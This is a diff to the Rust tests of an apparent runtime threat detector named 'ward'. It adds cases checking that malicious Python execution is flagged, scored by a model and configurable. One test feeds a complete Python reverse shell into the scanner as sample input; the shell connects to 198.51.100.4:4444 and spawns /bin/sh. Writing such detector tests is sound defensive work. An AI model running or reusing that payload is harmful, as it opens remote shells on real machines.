@@ -91,6 +91,7 @@ const EXPECTED: &[(&str, &[Want])] = &[
             ("Execution: Added Malicious Binary Executed", "sh", 1),
         ],
     ),
+    // Benign scripts scored by the shipped model: nothing to report.
     ("python-scripts", &[]),
     (
         "rce-bash-dev-tcp",
@@ -161,6 +162,7 @@ const EXPECTED: &[(&str, &[Want])] = &[
     (
         "rce-python-dup2",
         &[
+            ("Execution: Malicious Python executed", "python3", 1),
             (
                 "Execution: Possible Remote Command Execution Detected",
                 "sh",
@@ -172,6 +174,7 @@ const EXPECTED: &[(&str, &[Want])] = &[
     (
         "rce-python-pty",
         &[
+            ("Execution: Malicious Python executed", "python3", 1),
             (
                 "Execution: Possible Remote Command Execution Detected",
                 "bash",
@@ -563,4 +566,103 @@ fn findings_are_stored_listed_filtered_and_shown() {
     assert!(String::from_utf8_lossy(&out.stderr).contains("column"));
     let out = ward(&["findings", "show", "--db", db_s, "nope"]);
     assert_eq!(out.status.code(), Some(2));
+}
+
+#[test]
+fn malicious_python_findings_carry_the_script_and_the_model_verdict() {
+    let out = replay_final("rce-python-dup2");
+    let got = findings(&out.stdout);
+    let f = &got[0];
+    assert_eq!(f["category"], "Execution: Malicious Python executed");
+    assert_eq!(f["severity"], "CRITICAL");
+    let script = &f["processes"][0]["script"];
+    assert!(script.get("path").is_none(), "a -c literal has no path");
+    assert!(script["contents"]
+        .as_str()
+        .unwrap()
+        .contains("os.dup2(s.fileno(),0)"));
+    assert_eq!(script["size"], script["contents"].as_str().unwrap().len());
+    let score = f["sourceProperties"]["Model_Score"].as_f64().unwrap();
+    let threshold = f["sourceProperties"]["Model_Threshold"].as_f64().unwrap();
+    assert!(
+        score >= threshold && threshold >= 0.5,
+        "{score} {threshold}"
+    );
+    assert!(f["sourceProperties"]["Model_Id"]
+        .as_str()
+        .unwrap()
+        .starts_with("ward-python-v1"));
+    assert!(!f["sourceProperties"]["Model_Top_Reasons"]
+        .as_array()
+        .unwrap()
+        .is_empty());
+    assert_eq!(f["mitreAttack"]["primaryTechniques"][0], "PYTHON");
+
+    // The detector can be switched off in configuration.
+    let dir = tempfile::tempdir().unwrap();
+    let cfg = dir.path().join("off.toml");
+    std::fs::write(&cfg, "[detectors.malicious_python]\nenabled = false\n").unwrap();
+    let out = ward(&[
+        "replay",
+        "--final",
+        "--config",
+        cfg.to_str().unwrap(),
+        "testdata/traces/rce-python-dup2.jsonl",
+    ]);
+    assert!(findings(&out.stdout)
+        .iter()
+        .all(|f| f["category"] != "Execution: Malicious Python executed"));
+}
+
+#[test]
+fn scan_script_scores_files_and_says_what_is_not_python() {
+    let dir = tempfile::tempdir().unwrap();
+    let benign = dir.path().join("health.py");
+    std::fs::write(
+        &benign,
+        "import json, sys\nprint(json.dumps({'ok': True}))\nsys.exit(0)\n",
+    )
+    .unwrap();
+    let out = ward(&[
+        "scan-script",
+        "--format",
+        "json",
+        benign.to_str().unwrap(),
+        "/bin/true",
+    ]);
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let rows = findings(&out.stdout);
+    assert_eq!(rows.len(), 2);
+    assert_eq!(rows[0]["malicious"], false);
+    assert_eq!(rows[0]["sha256"].as_str().unwrap().len(), 64);
+    assert!(
+        rows[1]["not_python"].as_str().unwrap().contains("ELF"),
+        "{}",
+        rows[1]
+    );
+
+    // A reverse shell piped on stdin.
+    let mut child = Command::new(env!("CARGO_BIN_EXE_ward"))
+        .args(["scan-script", "--format", "json", "-"])
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    use std::io::Write;
+    child
+        .stdin
+        .take()
+        .unwrap()
+        .write_all(b"import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('198.51.100.4',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(['/bin/sh','-i'])\n")
+        .unwrap();
+    let out = child.wait_with_output().unwrap();
+    assert_eq!(out.status.code(), Some(1), "malicious input exits 1");
+    let row = &findings(&out.stdout)[0];
+    assert_eq!(row["malicious"], true);
+    assert_eq!(row["path"], "-");
 }
